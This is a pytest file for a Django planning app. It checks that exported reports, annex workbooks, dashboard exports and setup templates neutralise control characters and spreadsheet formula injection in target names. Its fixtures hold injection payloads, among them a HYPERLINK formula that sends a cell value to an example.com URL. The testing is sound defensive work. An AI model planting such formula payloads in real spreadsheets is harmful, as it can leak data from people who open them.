"""A control character or a formula in a name does not break or arm any file we hand out: the report (.docx), its
annex (.xlsx), the dashboard export and the setup template open, and names are text (issue 18)."""

from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from chitieu.documents import services
from chitieu.documents.tests.conftest import make_draft, office_user
from chitieu.plans.models import Target, TargetGroup

pytestmark = pytest.mark.django_db

GROUP = '=HYPERLINK("http://example.com/?x="&A1,"Bấm vào đây")'
NAME = "Thu nhập\x0bbình quân đầu người\x01"
FORMULA_NAME = "+SUM(1,2) hộ nghèo"


@pytest.fixture
def clerk(world):
    resolution = world.phu_luong_resolution
    group = TargetGroup.objects.create(resolution=resolution, label="I.", name=GROUP, order=1)
    Target.objects.create(
        resolution=resolution,
        group=group,
        order=1,
        label="1.",
        name=NAME,
        unit="triệu đồng",
        value=Decimal(60),
    )
    Target.objects.create(
        resolution=resolution,
        group=group,
        order=2,
        label="2.",
        name=FORMULA_NAME,
        unit="%",
        value=Decimal(-2),
    )
    return office_user(world.phu_luong)


@pytest.fixture
def draft(world, clerk):
    return services.assign_number(make_draft(world.phu_luong_resolution, clerk))


def texts(sheet) -> list:
    return [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


def assert_inert(sheet) -> None:
    cells = texts(sheet)
    assert cells
    for cell in cells:
        assert cell.data_type == "s", cell.coordinate
        assert not cell.value.startswith(("=", "+", "@")), cell.value
        assert "\x0b" not in cell.value and "\x01" not in cell.value
    values = [cell.value.strip() for cell in cells]
    assert "'" + GROUP in values
    assert "Thu nhập\nbình quân đầu người" in values


def test_the_annex_workbook_opens_and_its_names_are_text(client, draft, clerk):
    client.force_login(clerk)
    response = client.get(reverse("documents:xlsx", args=[draft.pk]))
    assert response.status_code == 200
    assert_inert(load_workbook(BytesIO(response.content)).active)


def test_the_report_opens_with_the_line_break_as_a_line_break(client, draft, clerk):
    client.force_login(clerk)
    response = client.get(reverse("documents:docx", args=[draft.pk]))
    assert response.status_code == 200
    document = Document(BytesIO(response.content))
    text = "\n".join(cell.text for table in document.tables for row in table.rows for cell in row.cells)
    assert "Thu nhập\nbình quân đầu người" in text and "\x0b" not in text


def test_the_dashboard_export_opens_and_its_names_are_text(client, world, approver, clerk):
    client.force_login(approver)
    response = client.get(reverse("reports:dashboard", args=[world.phu_luong_resolution.pk]) + "?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    for cell in texts(sheet):
        assert cell.data_type == "s" and not cell.value.startswith(("=", "+", "@"))
    assert any(cell.value.strip() == "'" + FORMULA_NAME for cell in texts(sheet))
    assert any(cell.value == "-2%" for cell in texts(sheet))  # a figure written as a number is not quoted


def test_the_setup_template_opens_and_reads_back_the_names_as_written(client, world, clerk):
    client.force_login(clerk)
    response = client.get(reverse("setup:template", args=[world.phu_luong_resolution.pk]))
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    names = [cell.value for cell in texts(sheet)]
    assert "'" + FORMULA_NAME in names and "Thu nhập\nbình quân đầu người" in names
